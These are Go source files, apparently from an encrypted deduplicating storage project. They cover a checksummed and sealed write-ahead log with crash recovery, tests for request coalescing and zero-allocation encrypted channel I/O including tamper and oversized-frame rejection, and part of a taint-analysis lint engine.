	"hash/crc32"
	"io"
	"os"
	"time"

	"speed/internal/enclave"
	"speed/internal/mle"
	storeengine "speed/internal/store/engine"
)

// The write-ahead log makes every acknowledged insert or delete
// recoverable before the memtable reaches a sorted segment. Frames are
// self-delimiting and individually checksummed:
//
//	frame := length uint32 | crc uint32 | payload [length]byte
//
// where crc is CRC-32C (Castagnoli) over the payload and payload is a
// sealed (enclave-AEAD) operation:
//
//	op    byte    (1 = put, 2 = delete, 3 = touch)
//	tag   [32]byte
//	rec   encodeRecord(...)            (put only)
//	hits  uint64 | touch int64 nanos   (touch only)
//
// The CRC detects torn writes (a crash mid-append); the seal detects
// tampering. Recovery trusts neither: a frame whose length or CRC does
// not check out ends replay and the file is truncated at the last good
// frame — a torn tail is expected after a crash and is never applied.
// A frame whose CRC is valid but whose seal fails authentication is
// hostile (the CRC is attacker-computable, the seal is not) and fails
// recovery loudly.

const (
	walName        = "wal.log"
	walFrameHeader = 8 // length + crc
	walOpPut       = 1
	walOpDelete    = 2
	// walOpTouch persists popularity only: the current hit count and
	// last-touch time of a record whose payload already lives in a
	// segment. Flush and checkpoint emit these for the touch overlay so
	// segment-resident popularity survives a restart without rewriting
	// the records themselves.
	walOpTouch = 3
	// maxWALPayload bounds a frame's declared length so a corrupt
	// header cannot drive a huge allocation during replay.
	maxWALPayload = 1 << 30
)

var crcTable = crc32.MakeTable(crc32.Castagnoli)

// walOp is one decoded WAL operation.
type walOp struct {
	op  byte
	tag mle.Tag
	rec storeengine.Record
}

// wal is the append-only log file. Appends are serialized by the
// engine's mutex.
type wal struct {
	f     *os.File
	size  int64
	dirty bool // appended since last sync
}

func openWAL(path string) (*wal, error) {
	f, err := os.OpenFile(path, os.O_CREATE|os.O_RDWR, 0o600)
	if err != nil {
		return nil, err
	}
	st, err := f.Stat()
	if err != nil {
		_ = f.Close() // stat error wins
		return nil, err
	}
	return &wal{f: f, size: st.Size()}, nil
}

// encodeWALPayload builds the plaintext of one operation. A touch
// carries only popularity (rec.Hits, rec.LastTouch); a put carries the
// whole record.
func encodeWALPayload(op byte, tag mle.Tag, rec storeengine.Record) []byte {
	if op == walOpDelete {
		out := make([]byte, 0, 1+32)
		out = append(out, op)
		return append(out, tag[:]...)
	}
	if op == walOpTouch {
		out := make([]byte, 0, 1+32+16)
		out = append(out, op)
		out = append(out, tag[:]...)
		out = binary.BigEndian.AppendUint64(out, uint64(rec.Hits))
		return binary.BigEndian.AppendUint64(out, uint64(rec.LastTouch.UnixNano()))
	}
	body := encodeRecord(rec)
	out := make([]byte, 0, 1+32+len(body))
	out = append(out, op)
	out = append(out, tag[:]...)
	return append(out, body...)
}

// decodeWALPayload parses an unsealed operation.
func decodeWALPayload(raw []byte) (walOp, error) {
	var o walOp
	if len(raw) < 1+32 {
		return o, errBadRecord
	}
	o.op = raw[0]
	copy(o.tag[:], raw[1:33])
	switch o.op {
	case walOpDelete:
		if len(raw) != 1+32 {
			return o, errBadRecord
		}
		return o, nil
	case walOpTouch:
		if len(raw) != 1+32+16 {
			return o, errBadRecord
		}
		o.rec.Hits = int64(binary.BigEndian.Uint64(raw[33:41]))
		o.rec.LastTouch = time.Unix(0, int64(binary.BigEndian.Uint64(raw[41:49])))
		return o, nil
	case walOpPut:
		rec, err := decodeRecord(raw[33:])
		if err != nil {
			return o, err
		}
		o.rec = rec
		return o, nil
	default:
		return o, errBadRecord
	}
}

// append seals and writes one operation. It does not sync; the caller
// applies the fsync policy.
func (w *wal) append(enc *enclave.Enclave, op byte, tag mle.Tag, rec storeengine.Record) error {
	sealed, err := enc.Seal(encodeWALPayload(op, tag, rec))
	if err != nil {
		return fmt.Errorf("logengine: seal wal record: %w", err)
	}
	frame := make([]byte, walFrameHeader+len(sealed))
	binary.BigEndian.PutUint32(frame[0:4], uint32(len(sealed)))
	binary.BigEndian.PutUint32(frame[4:8], crc32.Checksum(sealed, crcTable))
	copy(frame[walFrameHeader:], sealed)
	if _, err := w.f.Write(frame); err != nil {
		return fmt.Errorf("logengine: append wal: %w", err)
	}
	w.size += int64(len(frame))
	w.dirty = true
	//speedlint:ignore fsyncorder append defers durability to the engine's configured fsync policy (FsyncCommit syncs per insert, the checkpoint path syncs per batch)
	return nil
}

func (w *wal) sync() error {
	if !w.dirty {
		return nil
	}
	if err := w.f.Sync(); err != nil {
		return err
	}
	w.dirty = false
	return nil
}

// reset truncates the log to empty after its contents reached a
// durable segment.
func (w *wal) reset() error {
	if err := w.f.Truncate(0); err != nil {
		return err
	}
	if _, err := w.f.Seek(0, io.SeekStart); err != nil {
		return err
	}
	if err := w.f.Sync(); err != nil {
		return err
	}
	w.size = 0
	w.dirty = false
	return nil
}

func (w *wal) close() error { return w.f.Close() }

// replay scans the log from the start, yielding each intact operation.
// It returns the number of operations applied and whether a torn tail
// was truncated. Corrupt-but-authenticated frames (valid CRC, failed
// seal) abort with an error: that is tampering, not a crash artifact.
func (w *wal) replay(enc *enclave.Enclave, apply func(walOp)) (replayed int64, torn bool, err error) {
	if _, err := w.f.Seek(0, io.SeekStart); err != nil {
		return 0, false, err
	}
	var (
		good   int64 // offset just past the last intact frame
		header [walFrameHeader]byte
	)
	for {
		if _, err := io.ReadFull(w.f, header[:]); err != nil {
			if err == io.EOF {
				break // clean end
			}
			torn = true // partial header
			break
		}
		length := binary.BigEndian.Uint32(header[0:4])
		sum := binary.BigEndian.Uint32(header[4:8])
		if length == 0 || length > maxWALPayload || int64(length) > w.size-good-walFrameHeader {
			torn = true
			break
		}
		payload := make([]byte, length)
		if _, err := io.ReadFull(w.f, payload); err != nil {
			torn = true
			break
		}
		if crc32.Checksum(payload, crcTable) != sum {
			torn = true
			break
		}
		raw, err := enc.Unseal(payload)
		if err != nil {
			return replayed, false, fmt.Errorf("logengine: wal record failed authentication (tampering?): %w", err)
		}
		op, err := decodeWALPayload(raw)
		if err != nil {
			return replayed, false, fmt.Errorf("logengine: wal replay: %w", err)
		}
		apply(op)
		replayed++
		good += walFrameHeader + int64(length)
	}
	if torn {
		// Drop the torn tail so the next append starts at a frame
		// boundary. The lost suffix was never acknowledged as durable
		// under fsync-on-commit (the crash hit before the sync
		// returned), so truncation loses nothing that was promised.
		if err := w.f.Truncate(good); err != nil {
			return replayed, torn, err
		}
		if err := w.f.Sync(); err != nil {
			return replayed, torn, err
		}
		w.size = good
	}
	if _, err := w.f.Seek(w.size, io.SeekStart); err != nil {
		return replayed, torn, err
	}
	return replayed, torn, nil
}
