package dedup

import (
	"bytes"
	"strings"
	"sync"
	"testing"
	"time"
)

// Regression tests for the in-flight coalescing fast path: a panic in
// the flight owner's compute must unblock waiters and unregister the
// flight, and the owner's returned slice must not alias the bytes
// waiters copy out of the flight.

// waitFor polls cond until it holds or the deadline passes.
func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		if cond() {
			return
		}
		time.Sleep(2 * time.Millisecond)
	}
	t.Fatalf("timed out waiting for %s", what)
}

func (rt *Runtime) inflightCount() int {
	rt.flightMu.Lock()
	defer rt.flightMu.Unlock()
	return len(rt.inflight)
}

func TestCoalescePanicCleansUpFlight(t *testing.T) {
	env := newTestEnv(t, nil)
	rt := env.runtime
	id := env.funcID(t)
	input := []byte("panic input")

	release := make(chan struct{})
	ownerPanic := make(chan any, 1)
	go func() {
		defer func() { ownerPanic <- recover() }()
		_, _, _ = rt.Execute(id, input, func([]byte) ([]byte, error) {
			<-release
			panic("boom in compute")
		})
	}()
	waitFor(t, "owner flight registration", func() bool { return rt.inflightCount() == 1 })

	// A concurrent identical call joins the flight and must be
	// unblocked — with an error — when the owner panics, not deadlock.
	waiterDone := make(chan error, 1)
	go func() {
		_, _, err := rt.Execute(id, input, func(in []byte) ([]byte, error) {
			return append([]byte("w:"), in...), nil
		})
		waiterDone <- err
	}()
	time.Sleep(50 * time.Millisecond) // let the waiter join the flight
	close(release)

	if rec := <-ownerPanic; rec == nil {
		t.Fatal("owner's panic was swallowed instead of propagating")
	}
	select {
	case err := <-waiterDone:
		// The waiter normally coalesces and sees the flight's panic
		// error; if it narrowly missed the flight it computed on its
		// own, which is also fine — the bug under test is the deadlock.
		if err != nil && !strings.Contains(err.Error(), "panicked") {
			t.Errorf("waiter error = %v, want panic-flight error or nil", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("waiter deadlocked after owner panic")
	}

	waitFor(t, "flight cleanup", func() bool { return rt.inflightCount() == 0 })

	// The tag must be executable again.
	res, out, err := rt.Execute(id, input, func(in []byte) ([]byte, error) {
		return append([]byte("ok:"), in...), nil
	})
	if err != nil {
		t.Fatalf("Execute after panic: %v", err)
	}
	if out != OutcomeComputed && out != OutcomeReused {
		t.Errorf("outcome after panic = %v", out)
	}
	if len(res) == 0 {
		t.Error("empty result after panic recovery")
	}
}

// TestCoalescedResultNotAliased drives the owner-mutates /
// waiter-copies overlap; under -race the old aliasing publication
// (f.result = result) fails here.
func TestCoalescedResultNotAliased(t *testing.T) {
	env := newTestEnv(t, nil)
	rt := env.runtime
	id := env.funcID(t)
	input := []byte("alias input")
	want := append([]byte("result-"), input...)

	started := make(chan struct{})
	release := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		res, _, err := rt.Execute(id, input, func(in []byte) ([]byte, error) {
			close(started)
			<-release
			return append([]byte("result-"), in...), nil
		})
		if err != nil {
			t.Errorf("owner Execute: %v", err)
			return
		}
		// The owner's caller owns its slice and may scribble on it
		// immediately; that must never be visible to waiters.
		for i := 0; i < 4096; i++ {
			res[0] = byte(i)
		}
	}()
	// Only launch the second caller once the owner's compute is in
	// progress, so it deterministically joins the owner's flight.
	<-started
	var waiterRes []byte
	var waiterErr error
	wg.Add(1)
	go func() {
		defer wg.Done()
		waiterRes, _, waiterErr = rt.Execute(id, input, func(in []byte) ([]byte, error) {
			return append([]byte("result-"), in...), nil
		})
	}()
	time.Sleep(50 * time.Millisecond) // let the waiter reach the flight wait
	close(release)
	wg.Wait()

	if waiterErr != nil {
		t.Fatalf("waiter Execute: %v", waiterErr)
	}
	if !bytes.Equal(waiterRes, want) {
		t.Errorf("waiter result = %q, want %q (owner mutation leaked?)", waiterRes, want)
	}
}
