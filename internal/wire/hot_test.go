package wire

import (
	"bytes"
	"crypto/cipher"
	"errors"
	"io"
	"runtime"
	"testing"

	"speed/internal/enclave"
	"speed/internal/mle"
)

// The hot-path contract: once a channel has warmed up (scratch buffers
// grown to the session's frame size), Send, Recv, AppendMarshal and
// AppendEnvelope perform zero heap allocations per frame. These tests
// enforce the contract with testing.AllocsPerRun; the BenchmarkHot*
// benchmarks below feed the benchstat regression gate (make
// bench-regress).

// bufConn is a single-goroutine in-memory duplex: reads drain one
// bytes.Buffer, writes fill another. Unlike net.Pipe it never blocks,
// so a full request/response round trip runs on one goroutine — which
// is what lets AllocsPerRun (which measures allocations across the
// whole process) attribute every allocation to the wire path under
// test.
type bufConn struct {
	r, w *bytes.Buffer
}

func (c *bufConn) Read(p []byte) (int, error)  { return c.r.Read(p) }
func (c *bufConn) Write(p []byte) (int, error) { return c.w.Write(p) }
func (c *bufConn) Close() error                { return nil }

// bufPipe returns two connected bufConns.
func bufPipe() (client, server *bufConn) {
	c2s := new(bytes.Buffer)
	s2c := new(bytes.Buffer)
	return &bufConn{r: s2c, w: c2s}, &bufConn{r: c2s, w: s2c}
}

// hotChannelPair builds a connected channel pair directly (no
// handshake, fixed traffic keys) over a bufPipe, so both endpoints run
// on the calling goroutine.
func hotChannelPair(tb testing.TB) (*Channel, *Channel) {
	tb.Helper()
	mk := func(key string) (cipher.AEAD, []byte) {
		k := []byte(key)
		a, err := newAEAD(k)
		if err != nil {
			tb.Fatalf("newAEAD: %v", err)
		}
		// ratchet zeroizes and replaces the key; give each AEAD its own
		// mutable copy.
		return a, append([]byte(nil), k...)
	}
	cc, sc := bufPipe()
	c2s, c2sKey := mk("hot-test-c2s-key")
	s2c, s2cKey := mk("hot-test-s2c-key")
	c2s2, c2sKey2 := mk("hot-test-c2s-key")
	s2c2, s2cKey2 := mk("hot-test-s2c-key")
	client := &Channel{conn: cc, rekeyEvery: rekeyInterval, send: c2s, sendKey: c2sKey, recv: s2c, recvKey: s2cKey}
	server := &Channel{conn: sc, rekeyEvery: rekeyInterval, send: s2c2, sendKey: s2cKey2, recv: c2s2, recvKey: c2sKey2}
	return client, server
}

// getHitSealed builds a GET-hit-sized sealed triple: a 4 KiB result
// blob plus challenge and wrapped key, the shape of the paper's
// dedup-hit fast path.
func getHitSealed() mle.Sealed {
	blob := make([]byte, 4096)
	for i := range blob {
		blob[i] = byte(i)
	}
	return mle.Sealed{
		Challenge:  bytes.Repeat([]byte{0xC1}, mle.ChallengeSize),
		WrappedKey: bytes.Repeat([]byte{0xD2}, mle.KeySize),
		Blob:       blob,
	}
}

func TestChannelSendRecvZeroAlloc(t *testing.T) {
	client, server := hotChannelPair(t)
	payload := bytes.Repeat([]byte{0xAB}, 4096)

	roundTrip := func() {
		if err := client.Send(payload); err != nil {
			t.Fatalf("send: %v", err)
		}
		got, err := server.Recv()
		if err != nil {
			t.Fatalf("recv: %v", err)
		}
		if len(got) != len(payload) {
			t.Fatalf("recv %d bytes, want %d", len(got), len(payload))
		}
		if err := server.Send(got); err != nil {
			t.Fatalf("echo send: %v", err)
		}
		if _, err := client.Recv(); err != nil {
			t.Fatalf("echo recv: %v", err)
		}
	}
	// Warm the scratch buffers to the session's frame size.
	for i := 0; i < 3; i++ {
		roundTrip()
	}
	if n := testing.AllocsPerRun(100, roundTrip); n != 0 {
		t.Errorf("Send/Recv round trip allocates %v times per op, want 0", n)
	}
}

func TestChannelMessageSendZeroAlloc(t *testing.T) {
	client, server := hotChannelPair(t)
	// Box the messages once: passing a concrete struct to SendMessage in
	// the loop would itself allocate the interface value.
	var req Message = GetRequest{Tag: mle.Tag{1, 2, 3}}
	var resp Message = GetResponse{Found: true, Sealed: getHitSealed()}

	roundTrip := func() {
		if err := client.SendMessage(req); err != nil {
			t.Fatalf("send request: %v", err)
		}
		if _, err := server.Recv(); err != nil {
			t.Fatalf("server recv: %v", err)
		}
		if err := server.SendEnvelope(7, resp); err != nil {
			t.Fatalf("send response: %v", err)
		}
		if _, err := client.Recv(); err != nil {
			t.Fatalf("client recv: %v", err)
		}
	}
	for i := 0; i < 3; i++ {
		roundTrip()
	}
	if n := testing.AllocsPerRun(100, roundTrip); n != 0 {
		t.Errorf("SendMessage/SendEnvelope round trip allocates %v times per op, want 0", n)
	}
}

func TestAppendMarshalZeroAlloc(t *testing.T) {
	var msg Message = GetResponse{Found: true, Sealed: getHitSealed()}
	buf := AppendMarshal(nil, msg) // size the scratch
	if n := testing.AllocsPerRun(100, func() {
		buf = AppendMarshal(buf[:0], msg)
	}); n != 0 {
		t.Errorf("AppendMarshal into sized scratch allocates %v times per op, want 0", n)
	}
	env := AppendEnvelope(nil, 1, msg)
	if n := testing.AllocsPerRun(100, func() {
		env = AppendEnvelope(env[:0], 42, msg)
	}); n != 0 {
		t.Errorf("AppendEnvelope into sized scratch allocates %v times per op, want 0", n)
	}
}

func TestReadFrameIntoZeroAlloc(t *testing.T) {
	frame := bytes.Repeat([]byte{0x5A}, 1024)
	var wireBytes bytes.Buffer
	if err := WriteFrame(&wireBytes, frame); err != nil {
		t.Fatalf("WriteFrame: %v", err)
	}
	encoded := append([]byte(nil), wireBytes.Bytes()...)

	buf := make([]byte, 0, 2048)
	r := bytes.NewReader(encoded)
	if n := testing.AllocsPerRun(100, func() {
		r.Reset(encoded)
		got, err := ReadFrameInto(r, buf)
		if err != nil {
			t.Fatalf("ReadFrameInto: %v", err)
		}
		buf = got[:0]
	}); n != 0 {
		t.Errorf("ReadFrameInto with sized scratch allocates %v times per op, want 0", n)
	}
}

// TestRecvPayloadValidUntilNextRecv pins the ownership contract: the
// slice returned by Recv is reused by the next Recv, and RecvMessage
// (via OwnMessage) detaches decoded messages from that window.
func TestRecvPayloadValidUntilNextRecv(t *testing.T) {
	client, server := hotChannelPair(t)

	if err := client.Send([]byte("first-payload")); err != nil {
		t.Fatal(err)
	}
	first, err := server.Recv()
	if err != nil {
		t.Fatal(err)
	}
	if err := client.Send([]byte("SECOND-OVERWR")); err != nil {
		t.Fatal(err)
	}
	if _, err := server.Recv(); err != nil {
		t.Fatal(err)
	}
	// Same length, same scratch: the first slice must now show the
	// second frame's bytes — proof the buffer is reused, and why
	// retaining a Recv payload is a bug.
	if string(first) == "first-payload" {
		t.Error("Recv payload survived a subsequent Recv; expected scratch reuse")
	}

	// RecvMessage, by contrast, returns an owning message.
	var put Message = PutRequest{Tag: mle.Tag{9}, Sealed: getHitSealed()}
	if err := client.SendMessage(put); err != nil {
		t.Fatal(err)
	}
	got1, err := server.RecvMessage()
	if err != nil {
		t.Fatal(err)
	}
	blob := append([]byte(nil), got1.(PutRequest).Sealed.Blob...)
	if err := client.SendMessage(Message(PutRequest{Tag: mle.Tag{8}, Sealed: mle.Sealed{Blob: bytes.Repeat([]byte{0xFF}, 4096+mle.ChallengeSize+mle.KeySize+20)}})); err != nil {
		t.Fatal(err)
	}
	if _, err := server.RecvMessage(); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got1.(PutRequest).Sealed.Blob, blob) {
		t.Error("RecvMessage result mutated by a subsequent receive; OwnMessage failed to detach it")
	}
}

// TestOwnMessageDetaches verifies OwnMessage copies every retained byte
// field out of the decode buffer for each aliasing message kind.
func TestOwnMessageDetaches(t *testing.T) {
	sealed := mle.Sealed{
		Challenge:  []byte{1, 1},
		WrappedKey: []byte{2, 2},
		Blob:       []byte{3, 3, 3},
	}
	msgs := []Message{
		GetResponse{Found: true, Sealed: sealed},
		PutRequest{Tag: mle.Tag{4}, Sealed: sealed},
		BatchGetResponse{Results: []GetResult{{Found: true, Sealed: sealed}}},
		BatchPutRequest{Items: []PutItem{{Tag: mle.Tag{5}, Sealed: sealed}}},
		SyncPullResponse{Entries: []SyncEntry{{Tag: mle.Tag{6}, Hits: 7, Sealed: sealed}}},
	}
	for _, m := range msgs {
		buf := Marshal(m)
		decoded, err := Unmarshal(buf)
		if err != nil {
			t.Fatalf("%v: %v", m.Kind(), err)
		}
		owned := OwnMessage(decoded)
		for i := range buf {
			buf[i] = 0xEE // clobber the decode buffer
		}
		reEncoded := Marshal(owned)
		if !bytes.Equal(reEncoded, Marshal(m)) {
			t.Errorf("%v: owned message changed when decode buffer was clobbered", m.Kind())
		}
	}
}

// TestRecvAuthFailAccounting pins the telemetry contract across an
// authentication failure: bytesIn counts only authenticated frames,
// while tampered frames land in the AuthFailures/AuthFailBytes
// counters.
func TestRecvAuthFailAccounting(t *testing.T) {
	client, server := hotChannelPair(t)

	if err := client.Send([]byte("good frame one")); err != nil {
		t.Fatal(err)
	}
	if _, err := server.Recv(); err != nil {
		t.Fatal(err)
	}
	goodBytes := server.BytesReceived()
	if goodBytes <= 0 {
		t.Fatalf("BytesReceived = %d after authenticated frame", goodBytes)
	}

	// Second frame arrives tampered: flip one ciphertext bit in the
	// server's inbound buffer.
	if err := client.Send([]byte("good frame two")); err != nil {
		t.Fatal(err)
	}
	inbound := server.conn.(*bufConn).r
	raw := inbound.Bytes()
	tamperedLen := len(raw)
	raw[len(raw)-1] ^= 0x01
	if _, err := server.Recv(); !errors.Is(err, ErrChannelAuth) {
		t.Fatalf("Recv of tampered frame = %v, want ErrChannelAuth", err)
	}

	if got := server.BytesReceived(); got != goodBytes {
		t.Errorf("BytesReceived = %d after auth failure, want unchanged %d", got, goodBytes)
	}
	if got := server.AuthFailures(); got != 1 {
		t.Errorf("AuthFailures = %d, want 1", got)
	}
	if got := server.AuthFailBytes(); got != int64(tamperedLen) {
		t.Errorf("AuthFailBytes = %d, want %d (payload+header)", got, tamperedLen)
	}
	if got := server.AuthFailBytes() + server.BytesReceived(); got != client.BytesSent() {
		t.Errorf("accounted bytes %d != bytes sent %d", got, client.BytesSent())
	}
}

// TestOversizedHelloRejected is the pre-attestation resource-exhaustion
// fix: a handshake frame announcing more than maxHelloSize is rejected
// on the length prefix alone — before the announced payload is
// allocated or read.
func TestOversizedHelloRejected(t *testing.T) {
	// A length prefix of 1 MiB is a legal frame (< MaxFrameSize) but an
	// illegal hello (> maxHelloSize).
	oversized := make([]byte, frameHeaderLen)
	const announced = 1 << 20
	oversized[1] = announced >> 16 // big-endian 0x00100000

	r := bytes.NewReader(oversized)
	if _, err := readHelloFrame(r); !errors.Is(err, ErrFrameTooLarge) {
		t.Fatalf("readHelloFrame = %v, want ErrFrameTooLarge", err)
	}
	// Rejection must be cheap: no buffer anywhere near the announced
	// size may have been allocated. Error construction allocates a few
	// small objects, so bound bytes, not allocation counts.
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	for i := 0; i < 10; i++ {
		r.Reset(oversized)
		if _, err := readHelloFrame(r); !errors.Is(err, ErrFrameTooLarge) {
			t.Fatalf("readHelloFrame = %v, want ErrFrameTooLarge", err)
		}
	}
	runtime.ReadMemStats(&after)
	if grew := after.TotalAlloc - before.TotalAlloc; grew > announced {
		t.Errorf("rejecting 10 oversized hellos allocated %d bytes; the announced size must not be allocated", grew)
	}

	// The same prefix is fine for an established channel's frames...
	if _, err := readFrameLimit(bytes.NewReader(oversized), MaxFrameSize, nil); err != nil && errors.Is(err, ErrFrameTooLarge) {
		t.Errorf("1 MiB frame rejected on an established channel: %v", err)
	}
	// ...and a larger-than-MaxFrameSize prefix is rejected everywhere.
	huge := []byte{0xFF, 0xFF, 0xFF, 0xFF}
	if _, err := readFrameLimit(bytes.NewReader(huge), MaxFrameSize, nil); !errors.Is(err, ErrFrameTooLarge) {
		t.Errorf("4 GiB frame accepted: %v", err)
	}
}

// TestHandshakeRejectsOversizedHello drives the cap end to end: a raw
// client that announces a huge hello is cut off by ServerHandshake.
func TestHandshakeRejectsOversizedHello(t *testing.T) {
	attacker, victim := bufPipe()
	// 16 MiB announced hello: within MaxFrameSize, far over maxHelloSize.
	if _, err := attacker.Write([]byte{0x01, 0x00, 0x00, 0x00}); err != nil {
		t.Fatal(err)
	}
	_, err := readHelloFrame(victim)
	if !errors.Is(err, ErrFrameTooLarge) {
		t.Fatalf("server hello read = %v, want ErrFrameTooLarge", err)
	}
}

// TestChannelConcurrentSendRecv exercises the per-direction scratch
// buffers under the race detector: one goroutine sends while the other
// echoes, in both directions at once, over a real net.Pipe-backed
// handshake pair.
func TestChannelConcurrentSendRecv(t *testing.T) {
	p := enclave.NewPlatform(enclave.Config{})
	app, _ := p.Create("app", []byte("app code"))
	st, _ := p.Create("store", []byte("store code"))
	client, server := handshakePair(t, p, app, st, nil)
	defer client.Close()
	defer server.Close()

	const frames = 200
	errCh := make(chan error, 2)
	go func() {
		for i := 0; i < frames; i++ {
			got, err := server.Recv()
			if err != nil {
				errCh <- err
				return
			}
			if err := server.Send(got); err != nil {
				errCh <- err
				return
			}
		}
		errCh <- nil
	}()
	go func() {
		payload := bytes.Repeat([]byte{0x77}, 512)
		for i := 0; i < frames; i++ {
			payload[0] = byte(i)
			if err := client.Send(payload); err != nil {
				errCh <- err
				return
			}
			got, err := client.Recv()
			if err != nil {
				errCh <- err
				return
			}
			if got[0] != byte(i) {
				errCh <- errors.New("echo mismatch")
				return
			}
		}
		errCh <- nil
	}()
	for i := 0; i < 2; i++ {
		if err := <-errCh; err != nil {
			t.Fatal(err)
		}
	}
}

// discardConn swallows writes, for send-only benchmarks.
type discardConn struct{}

func (discardConn) Read(p []byte) (int, error)  { return 0, io.EOF }
func (discardConn) Write(p []byte) (int, error) { return len(p), nil }
func (discardConn) Close() error                { return nil }

var benchSink int

// BenchmarkChannelRoundTrip is the headline hot-path benchmark: a full
// request/response exchange — GET request out, GET-hit-sized sealed
// response back — over a warmed channel pair. Steady state is 0
// allocs/op (enforced by TestChannelSendRecvZeroAlloc and friends) and
// the benchstat gate holds time and allocations to the checked-in
// baseline.
func BenchmarkChannelRoundTrip(b *testing.B) {
	client, server := hotChannelPair(b)
	var req Message = GetRequest{Tag: mle.Tag{1, 2, 3}}
	var resp Message = GetResponse{Found: true, Sealed: getHitSealed()}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := client.SendMessage(req); err != nil {
			b.Fatal(err)
		}
		if _, err := server.Recv(); err != nil {
			b.Fatal(err)
		}
		if err := server.SendEnvelope(uint64(i), resp); err != nil {
			b.Fatal(err)
		}
		got, err := client.Recv()
		if err != nil {
			b.Fatal(err)
		}
		benchSink = len(got)
	}
}

// BenchmarkHotSend measures seal + frame + write for a 4 KiB payload.
func BenchmarkHotSend(b *testing.B) {
	ch := &Channel{conn: discardConn{}, rekeyEvery: rekeyInterval}
	var err error
	if ch.send, err = newAEAD([]byte("hot-bench-key-16")); err != nil {
		b.Fatal(err)
	}
	ch.sendKey = []byte("hot-bench-key-16")
	payload := bytes.Repeat([]byte{0xAB}, 4096)
	b.SetBytes(int64(len(payload)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := ch.Send(payload); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkHotAppendMarshal measures message encoding into reused
// scratch for a GET-hit-sized response.
func BenchmarkHotAppendMarshal(b *testing.B) {
	var msg Message = GetResponse{Found: true, Sealed: getHitSealed()}
	buf := AppendMarshal(nil, msg)
	b.SetBytes(int64(len(buf)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		buf = AppendMarshal(buf[:0], msg)
	}
	benchSink = len(buf)
}

// BenchmarkHotReadFrameInto measures frame reads into reused scratch.
func BenchmarkHotReadFrameInto(b *testing.B) {
	frame := bytes.Repeat([]byte{0x5A}, 4096)
	var wireBytes bytes.Buffer
	if err := WriteFrame(&wireBytes, frame); err != nil {
		b.Fatal(err)
	}
	encoded := append([]byte(nil), wireBytes.Bytes()...)
	r := bytes.NewReader(encoded)
	buf := make([]byte, 0, 8192)
	b.SetBytes(int64(len(frame)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		r.Reset(encoded)
		got, err := ReadFrameInto(r, buf)
		if err != nil {
			b.Fatal(err)
		}
		buf = got[:0]
	}
}
