package lint

import (
	"go/ast"
	"go/types"
)

// This file is the forward intraprocedural taint engine: an abstract
// interpretation over the CFG (cfg.go) that tracks which local values
// carry key material or enclave plaintext, through assignments,
// slicing/indexing, struct fields, composite literals, conversions,
// append/copy, and calls — where the one-level call-graph summaries
// (callgraph.go) stand in for callee bodies.
//
// The lattice is a per-object taintMask joined by union; blocks
// iterate to a fixpoint with a worklist, and a final deterministic
// pass replays the transfer functions with reporting enabled so each
// sink fires exactly once, against the stable in-states.
//
// Two deliberate asymmetries keep the engine conservative-quiet:
// unknown callees produce untainted results (taint needs positive
// evidence to appear), and only a small allowlist of pure stdlib
// transforms (fmt.Sprint*, bytes/strings joins, append, copy, method
// calls on a tainted receiver) propagates taint through a call.

// taintHooks parameterise a taint run; sealflow supplies the SPEED
// policy, tests can supply their own.
type taintHooks struct {
	pkg   *Package
	graph *callGraph

	// sourceCall classifies a call as a taint source, returning one
	// mask per result (nil = not a source).
	sourceCall func(call *ast.CallExpr) []taintMask
	// exprTaint classifies an expression as inherently tainted
	// (secret-named buffers, Record-typed values). override=true means
	// the returned mask replaces any taint inherited from the root
	// (used to keep Record.Blob — ciphertext — clean inside a tainted
	// Record).
	exprTaint func(e ast.Expr) (mask taintMask, override bool)
	// sanitizer reports that a call's results are sealed/clean
	// regardless of argument taint.
	sanitizer func(call *ast.CallExpr) bool
	// sink classifies a call as a sink: accepts is the taint class the
	// sink objects to, desc names it in diagnostics. Arguments (not
	// the receiver) are checked.
	sink func(call *ast.CallExpr) (accepts taintMask, desc string)
	// report receives confirmed source-to-sink flows during the report
	// pass: the offending argument, its taint, the taint class the sink
	// objects to, and the sink description. Nil during plain runs.
	report func(arg ast.Expr, mask, accepts taintMask, desc string)
}

// taintState maps local objects (vars, params, results) to what they
// carry.
type taintState map[types.Object]taintMask

func (s taintState) clone() taintState {
	out := make(taintState, len(s))
	for k, v := range s {
		out[k] = v
	}
	return out
}

// join unions o into s, reporting change.
func (s taintState) join(o taintState) bool {
	changed := false
	for k, v := range o {
		if s[k]&v != v {
			s[k] |= v
			changed = true
		}
	}
	return changed
}

// taintRun is one engine execution over one function body.
type taintRun struct {
	hooks *taintHooks
	cfg   *funcCFG
	in    []taintState
	// returnMask accumulates the joined taint of each return operand
	// position (for summaries).
	returnMask []taintMask
	// inlined records closures analyzed at their use sites, so callers
	// do not analyze them a second time in isolation.
	inlined   map[*ast.FuncLit]bool
	reporting bool
}

// runTaint executes the engine over fn's CFG. entry seeds the entry
// state (parameter marks for summary runs; empty otherwise).
func runTaint(hooks *taintHooks, cfg *funcCFG, entry taintState) *taintRun {
	r := newTaintRun(hooks, cfg)
	r.fixpoint(entry)
	r.reportPass()
	return r
}

func newTaintRun(hooks *taintHooks, cfg *funcCFG) *taintRun {
	r := &taintRun{
		hooks:   hooks,
		cfg:     cfg,
		in:      make([]taintState, len(cfg.blocks)),
		inlined: make(map[*ast.FuncLit]bool),
	}
	for i := range r.in {
		r.in[i] = make(taintState)
	}
	return r
}

// fixpoint runs the worklist iteration to a stable assignment of
// in-states.
func (r *taintRun) fixpoint(entry taintState) {
	if entry != nil {
		r.in[r.cfg.entry.index] = entry.clone()
	}
	// Seed every block, entry first: each must be processed at least
	// once even if its in-state never changes from the initial empty
	// map, or a clean predecessor would stop the walk before return
	// statements and sinks downstream were ever visited.
	work := make([]*cfgBlock, 0, len(r.cfg.blocks))
	queued := newBitset(len(r.cfg.blocks))
